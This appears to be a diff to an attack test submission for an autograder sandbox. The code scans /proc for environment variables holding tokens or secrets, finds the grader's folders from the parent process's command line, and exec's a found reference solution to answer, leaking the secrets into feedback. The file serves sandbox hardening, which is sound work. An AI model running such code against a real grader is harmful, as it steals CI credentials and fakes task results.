@@ -1,6 +1,6 @@
 """Attack: use what /proc tells about the grader to read its own files and secrets: the command
-line of every visible process (the grader's names the assignment, submissions and results
-folders), its cwd, and every readable environment (HIDDEN_TESTS_TOKEN and other CI tokens).
+line of the parent (the grader's names the assignment, submissions and results folders), its
+cwd, and every readable environment (HIDDEN_TESTS_TOKEN and other CI tokens).
 Whatever it finds goes into the error messages, so it would appear in the feedback; a reference
 found is used to answer.
 
@@ -8,7 +8,9 @@ Expected under bubblewrap (nothing of the grader is visible) and at the uid leve
 root, its /proc entries and the folders it made private are closed to the sandbox's uid): nothing
 found, 0 points, no secret anywhere in the results.
 """
+import contextlib
 import os
+import time
 
 SECRETS = []
 SOURCES = {}
@@ -37,11 +39,16 @@ def _look(folder, depth=0):
             _look(path, depth + 1)
 
 
+START = time.monotonic()
 pids = [os.getppid()] + [int(p) for p in os.listdir("/proc") if p.isdigit()]
-for pid in pids[:400]:
+for pid in pids:
+    if time.monotonic() - START > 0.5:  # within the load's time limit (the grader first)
+        break
     for item in (_read(f"/proc/{pid}/environ") or b"").split(b"\0"):
         if b"TOKEN" in item or b"SECRET" in item:
             SECRETS.append(item.decode("latin-1"))
+    if pid != os.getppid():  # other copies elsewhere on the machine: read_hidden's business
+        continue
     for arg in (_read(f"/proc/{pid}/cmdline") or b"").split(b"\0"):
         arg = arg.decode("utf-8", "replace")
         if arg.startswith("/") and os.path.isdir(arg) and arg not in ("/", "/proc"):
@@ -51,10 +58,8 @@ SECRETS += [f"{k}={v}" for k, v in os.environ.items() if "TOKEN" in k or "SECRET
 print("found:", SECRETS, sorted(SOURCES))
 REF = {}
 for text in SOURCES.values():
-    try:
+    with contextlib.suppress(Exception):
         exec(text, REF)
-    except Exception:
-        pass
 
 
 def _ref(name):
